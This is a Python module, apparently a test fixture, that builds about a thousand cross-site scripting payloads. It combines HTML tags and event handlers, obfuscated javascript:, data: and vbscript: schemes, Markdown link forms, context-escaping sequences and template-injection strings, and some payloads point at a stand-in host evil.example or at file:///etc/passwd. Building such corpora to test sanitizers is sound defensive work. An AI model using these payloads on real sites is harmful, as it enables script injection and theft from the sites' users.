"""Some thousand ways in which words have become scripts elsewhere, made from their parts.

Every tag that loads or can be focused with every event, addresses in every
disguise, ways out of attributes and of Markdown; the same ones in every run.
"""

import itertools

ALARM = "window.pwned=1"
OUTSIDE = "//evil.example"

TAGS = (
    "a abbr audio body button canvas custom-x details div embed form iframe img input isindex "
    "keygen label link marquee math menu object p script select style svg table template "
    "textarea video xss"
)
EVENTS = (
    "onabort onanimationstart onauxclick onbeforetoggle onblur oncanplay onclick oncontextmenu "
    "onerror onfocus onfocusin onhashchange oninput onkeydown onload onloadstart onmouseover "
    "onpageshow onpointerenter onscroll onstart ontoggle ontransitionend onwheel"
)
SHAPES = [
    "<{tag} {event}={code}>",
    "<{tag}/{event}='{code}' src=x autofocus tabindex=0>",
    '<{upper} {event}="{code}" style=animation-name:x src={outside}/{tag}>y</{upper}>',
]
SCHEMES = [
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    "java\tscript:{code}",
    "java\u200bscript:{code}",
    "\x01javascript:{code}",
    " javascript:{code}",
    "&#106;avascript:{code}",
    "javascript&colon;{code}",
    "javascript:javascript:{code}",
    "vbscript:{code}",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==",
    "blob:{code}",
    "file:///etc/passwd",
    "//evil.example",
    "/\\evil.example",
    'https://shop.example/#"onclick={code} x="',
]
PLACES = [
    "[x]({})",
    "[**x**]({})",
    "![x]({})",
    "[![x]({})](https://shop.example/)",
    "[x](<{}>)",
    "[x]: {}",
    "<{}>",
    "| a | [x]({}) |\n|---|---|\n| [x]({}) | b |",
    "- [x]({})",
    "`[x]({})`",
    "<a href='{}'>x</a>",
    "<form action='{}'><button>x</button></form>",
    "<svg><a xlink:href='{}'><text y=1>x</text></a></svg>",
    "<iframe src='{}'></iframe>",
    "<object data='{}'></object>",
    "<base href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
]
WAYS_OUT = ["\"'>", "</textarea>", "</title>", "-->", "]]>", "</style>"]
WAYS_OUT += ["{{", "${", "```\n", "**", "\u202e"]
WHOLE = [
    "<script>{code}</script>",
    "<img src=x onerror={code}>",
    "<svg onload={code}>",
    "<style>@import '//evil.example'</style>",
    "<math><mi//xlink:href='data:x,<script>{code}</script>'>",
    "<template><img src=x onerror={code}></template>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "{{constructor.constructor('{code}')()}}",
]


def payloads() -> list[str]:
    """All of them, in one order."""
    tags = (
        shape.format(tag=tag, upper=tag.upper(), event=event, code=ALARM, outside=OUTSIDE)
        for shape, tag, event in itertools.product(SHAPES, TAGS.split(), EVENTS.split())
    )
    addresses = (
        place.replace("{}", scheme.format(code=ALARM))
        for place, scheme in itertools.product(PLACES, SCHEMES)
    )
    out = (
        way + whole.replace("{code}", ALARM) for way, whole in itertools.product(WAYS_OUT, WHOLE)
    )
    return [*tags, *addresses, *out]
